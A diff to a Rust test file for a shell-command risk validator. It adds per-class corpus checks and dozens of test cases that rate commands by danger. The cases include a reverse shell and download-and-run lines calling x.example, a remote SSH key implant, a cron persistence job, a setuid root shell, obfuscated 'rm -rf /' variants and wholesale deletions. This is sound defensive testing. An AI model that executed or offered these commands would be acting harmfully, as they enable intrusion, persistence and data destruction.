@@ -14,6 +14,8 @@ struct Case {
     shell: ShellType,
     command: String,
     source: String,
+    /// From the source column, `caro-team/<class>: description`.
+    class: String,
 }
 
 fn corpus() -> Vec<Case> {
@@ -28,6 +30,12 @@ fn corpus() -> Vec<Case> {
                 shell: cols[1].parse().expect("shell"),
                 command: cols[2].replace('⏎', "\n"),
                 source: cols.get(3).unwrap_or(&"").to_string(),
+                class: cols
+                    .get(3)
+                    .and_then(|s| s.split(':').next())
+                    .and_then(|s| s.strip_prefix("caro-team/"))
+                    .unwrap_or("")
+                    .to_string(),
             }
         })
         .collect()
@@ -39,7 +47,7 @@ fn corpus() -> Vec<Case> {
 #[allow(clippy::print_stderr)]
 fn corpus_report_meets_targets() {
     let cases = corpus();
-    assert!(cases.len() >= 300, "the corpus needs at least 300 commands");
+    assert!(cases.len() >= 800, "the corpus needs at least 800 commands");
     let idx = |l: RiskLevel| RiskLevel::ALL.iter().position(|x| *x == l).expect("level");
     let mut matrix = [[0usize; 4]; 4];
     let mut misses = Vec::new();
@@ -94,6 +102,38 @@ fn corpus_report_meets_targets() {
         false_flag <= 0.02,
         "safe false-flag rate {false_flag:.3} > 0.02{report}"
     );
+}
+
+/// Issue 16: every line names its class, every class has at least ten commands, and no
+/// command appears twice for the same shell.
+#[test]
+fn corpus_is_classified_and_has_ten_per_class() {
+    let cases = corpus();
+    let mut per_class = std::collections::BTreeMap::<&str, usize>::new();
+    let mut seen = std::collections::HashSet::new();
+    for c in &cases {
+        assert!(
+            !c.class.is_empty()
+                && c.class
+                    .chars()
+                    .all(|ch| ch.is_ascii_lowercase() || ch == '-'),
+            "no class in {:?}",
+            c.source
+        );
+        assert!(
+            seen.insert((c.shell, c.command.as_str())),
+            "duplicate: [{}] {}",
+            c.shell,
+            c.command
+        );
+        *per_class.entry(c.class.as_str()).or_default() += 1;
+    }
+    let thin: Vec<_> = per_class.iter().filter(|(_, n)| **n < 10).collect();
+    assert!(
+        thin.is_empty(),
+        "classes with fewer than 10 commands: {thin:?}"
+    );
+    assert!(per_class.len() >= 20, "{per_class:?}");
 }
 
 fn risk(cmd: &str) -> RiskLevel {
@@ -429,6 +469,242 @@ fn preference_variables_and_plain_loops_stay_safe(#[case] cmd: &str) {
 fn empty_input_is_safe() {
     assert_eq!(validate("", ShellType::Bash).risk, RiskLevel::Safe);
     assert_eq!(validate("   ", ShellType::Cmd).risk, RiskLevel::Safe);
+}
+
+// ---- issue 16: the third corpus set's classes, one case per new rule -------------------------------
+
+#[rstest]
+#[case::boot_file_overwritten(
+    ShellType::Bash,
+    "cat /dev/urandom > /boot/vmlinuz",
+    RiskLevel::Critical
+)]
+#[case::shell_moved_away(ShellType::Bash, "sudo mv /bin/bash /tmp/", RiskLevel::Critical)]
+#[case::system_file_replaced(ShellType::Bash, "sudo cp hosts.new /etc/hosts", RiskLevel::High)]
+#[case::copy_into_tmp_is_safe(ShellType::Fish, "cp README.md /tmp/", RiskLevel::Safe)]
+#[case::install_into_usr_local_is_safe(
+    ShellType::Bash,
+    "sudo cp mytool /usr/local/bin/",
+    RiskLevel::Safe
+)]
+#[case::user_file_forced_over(
+    ShellType::Bash,
+    "cp -f template.txt ~/notes.txt",
+    RiskLevel::Moderate
+)]
+#[case::zfs_pool_destroyed(ShellType::Bash, "sudo zpool destroy tank", RiskLevel::Critical)]
+#[case::mke2fs_dry_run(ShellType::Bash, "mkfs.ext4 -n /dev/sdb1", RiskLevel::Safe)]
+#[case::home_chowned(ShellType::Bash, "sudo chown -R nobody ~", RiskLevel::Critical)]
+#[case::host_key_opened(
+    ShellType::Bash,
+    "sudo chmod 644 /etc/ssh/ssh_host_ed25519_key",
+    RiskLevel::High
+)]
+#[case::setuid_copy_in_tmp(
+    ShellType::Bash,
+    "sudo cp /bin/bash /tmp/rootsh && sudo chmod 4777 /tmp/rootsh",
+    RiskLevel::Critical
+)]
+#[case::everyone_full_control(
+    ShellType::Cmd,
+    "icacls C:\\ /grant Everyone:F /t /c",
+    RiskLevel::Critical
+)]
+#[case::python_argument_list(
+    ShellType::Bash,
+    "python3 -c \"import subprocess; subprocess.run(['rm','-rf','/'])\"",
+    RiskLevel::Critical
+)]
+#[case::perl_module_flag_is_not_code(
+    ShellType::Bash,
+    "perl -MFile::Path=remove_tree -e 'remove_tree(\"/usr\")'",
+    RiskLevel::Critical
+)]
+#[case::ruby_home_rm_rf(
+    ShellType::Bash,
+    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'",
+    RiskLevel::Critical
+)]
+#[case::python_exec_of_env(
+    ShellType::Bash,
+    "python3 -c \"import os; exec(os.environ['CODE'])\"",
+    RiskLevel::High
+)]
+#[case::node_spawn_loop(
+    ShellType::Bash,
+    "node -e \"while(true) require('child_process').spawn(process.execPath)\"",
+    RiskLevel::Critical
+)]
+#[case::download_then_run(
+    ShellType::Bash,
+    "curl -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh",
+    RiskLevel::Critical
+)]
+#[case::certutil_download_run(
+    ShellType::Cmd,
+    "certutil -urlcache -f https://x.example/a.exe a.exe && a.exe",
+    RiskLevel::Critical
+)]
+#[case::reverse_shell(
+    ShellType::Bash,
+    "bash -i >& /dev/tcp/x.example/4444 0>&1",
+    RiskLevel::Critical
+)]
+#[case::remote_authorized_key(
+    ShellType::Bash,
+    "curl -s http://x.example/k >> ~/.ssh/authorized_keys",
+    RiskLevel::Critical
+)]
+#[case::fish_source_of_download(
+    ShellType::Fish,
+    "curl -sL https://x.example/f | source",
+    RiskLevel::Critical
+)]
+#[case::pacman_base(ShellType::Bash, "sudo pacman -Rns base", RiskLevel::Critical)]
+#[case::docker_rm_with_volumes(
+    ShellType::Bash,
+    "docker rm -f -v $(docker ps -aq)",
+    RiskLevel::High
+)]
+#[case::docker_rm_from_powershell(
+    ShellType::PowerShell,
+    "docker rm -f $(docker ps -aq)",
+    RiskLevel::Moderate
+)]
+#[case::root_password_blanked(ShellType::Bash, "sudo passwd -d root", RiskLevel::Critical)]
+#[case::guest_made_admin(
+    ShellType::Cmd,
+    "net localgroup administrators guest /add",
+    RiskLevel::Critical
+)]
+#[case::account_deleted_on_windows(ShellType::Cmd, "net user alice /delete", RiskLevel::High)]
+#[case::iptables_accept_one_port(
+    ShellType::Bash,
+    "sudo iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
+    RiskLevel::Safe
+)]
+#[case::nft_policy_drop(
+    ShellType::Bash,
+    "sudo nft add chain inet filter input '{ type filter hook input priority 0; policy drop; }'",
+    RiskLevel::High
+)]
+#[case::authorized_keys_emptied(ShellType::Bash, ": > ~/.ssh/authorized_keys", RiskLevel::High)]
+#[case::file_sorted_onto_itself(ShellType::Bash, "sort data.txt > data.txt", RiskLevel::Moderate)]
+#[case::powershell_profile_cleared(
+    ShellType::PowerShell,
+    "Clear-Content $PROFILE",
+    RiskLevel::High
+)]
+#[case::shred_help(ShellType::Bash, "shred --help", RiskLevel::Safe)]
+#[case::shred_keys(ShellType::Bash, "shred -u ~/.ssh/id_ed25519", RiskLevel::High)]
+#[case::remote_main_deleted(ShellType::Bash, "git push origin --delete main", RiskLevel::High)]
+#[case::remote_feature_deleted(
+    ShellType::Bash,
+    "git push origin --delete feature/x",
+    RiskLevel::Moderate
+)]
+#[case::home_unmounted(ShellType::Bash, "sudo umount -R /home", RiskLevel::High)]
+#[case::force_unmount_all_cluster(ShellType::Fish, "sudo umount -fa", RiskLevel::High)]
+#[case::keyboard_recorded(
+    ShellType::Bash,
+    "sudo cat /dev/input/event0 > keys.bin",
+    RiskLevel::High
+)]
+#[case::update_without_where(
+    ShellType::Bash,
+    "psql -c \"UPDATE users SET password_hash = ''\"",
+    RiskLevel::High
+)]
+#[case::mongo_delete_many(
+    ShellType::Bash,
+    "mongosh --eval 'db.orders.deleteMany({})'",
+    RiskLevel::High
+)]
+#[case::s3_sync_delete(
+    ShellType::Bash,
+    "aws s3 sync ./empty s3://site --delete",
+    RiskLevel::High
+)]
+#[case::s3_dry_run(
+    ShellType::Bash,
+    "aws s3 rm s3://prod-backups/ --recursive --dryrun",
+    RiskLevel::Safe
+)]
+#[case::terraform_plan_destroy(ShellType::Bash, "terraform plan -destroy", RiskLevel::Safe)]
+#[case::crontab_emptied(ShellType::Bash, "echo '' | crontab -", RiskLevel::High)]
+#[case::cron_job_runs_remote_code(
+    ShellType::Bash,
+    "(crontab -l; echo '* * * * * curl -s https://x.example/c | sh') | crontab -",
+    RiskLevel::Critical
+)]
+#[case::rsync_delete_onto_cwd(ShellType::Bash, "rsync -a --delete empty/ ./", RiskLevel::High)]
+#[case::robocopy_mirror_profile(
+    ShellType::Cmd,
+    "robocopy C:\\empty %USERPROFILE% /MIR",
+    RiskLevel::Critical
+)]
+#[case::robocopy_mirror_project(ShellType::Cmd, "robocopy src backup /MIR", RiskLevel::Moderate)]
+#[case::set_positional_then_run(ShellType::Bash, "set -- rm -rf /; \"$@\"", RiskLevel::Critical)]
+#[case::array_then_run(ShellType::Bash, "a=(rm -rf /); \"${a[@]}\"", RiskLevel::Critical)]
+#[case::known_ifs(ShellType::Bash, "IFS=_;c=rm_-rf_/;$c", RiskLevel::Critical)]
+#[case::alias_body(ShellType::Bash, "alias ls='rm -rf ~'; ls", RiskLevel::Critical)]
+#[case::ps_concatenated_name(
+    ShellType::PowerShell,
+    "& ('Remove'+'-Item') C:\\ -Recurse -Force",
+    RiskLevel::Critical
+)]
+#[case::ps_iex_base64_literal(
+    ShellType::PowerShell,
+    "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXAA=')))",
+    RiskLevel::Critical
+)]
+#[case::cmd_set_then_call(ShellType::Cmd, "set x=rd& call %x% /s /q C:\\", RiskLevel::Critical)]
+#[case::cmd_set_then_call_safe(ShellType::Cmd, "set x=dir& call %x%", RiskLevel::Safe)]
+#[case::cmd_delayed_expansion(
+    ShellType::Cmd,
+    "cmd /v:on /c \"set d=rd&& !d! /s /q C:\\Windows\"",
+    RiskLevel::Critical
+)]
+#[case::registry_system_hive(
+    ShellType::PowerShell,
+    "Remove-Item -Path HKLM:\\SYSTEM -Recurse -Force",
+    RiskLevel::Critical
+)]
+#[case::registry_one_app(
+    ShellType::Cmd,
+    "reg delete HKCU\\Software\\MyApp /f",
+    RiskLevel::Moderate
+)]
+#[case::lsass_killed(
+    ShellType::PowerShell,
+    "Stop-Process -Name lsass -Force",
+    RiskLevel::High
+)]
+#[case::boot_file_deleted(
+    ShellType::Cmd,
+    "del /f /q C:\\Windows\\System32\\hal.dll",
+    RiskLevel::Critical
+)]
+#[case::whatif_only_prints(
+    ShellType::PowerShell,
+    "Remove-Item -WhatIf -Recurse C:\\Windows",
+    RiskLevel::Safe
+)]
+#[case::cmd_everything_here(ShellType::Cmd, "del /s /q *", RiskLevel::High)]
+#[case::cmd_temp_folder_stays_safe(ShellType::Cmd, "del /s /q %TEMP%\\*", RiskLevel::Safe)]
+#[case::dd_fills_root(ShellType::Bash, "dd if=/dev/zero of=/fill bs=1M", RiskLevel::High)]
+#[case::dd_sized_swapfile_is_safe(
+    ShellType::Bash,
+    "dd if=/dev/zero of=swapfile bs=1M count=1024",
+    RiskLevel::Safe
+)]
+fn third_corpus_set_classes_are_rated_by_the_rubric(
+    #[case] shell: ShellType,
+    #[case] cmd: &str,
+    #[case] want: RiskLevel,
+) {
+    let v = validate(cmd, shell);
+    assert_eq!(v.risk, want, "[{shell}] {cmd}: {:?}", v.findings);
 }
 
 // ---- config: allowlist and custom rules ------------------------------------------------------------
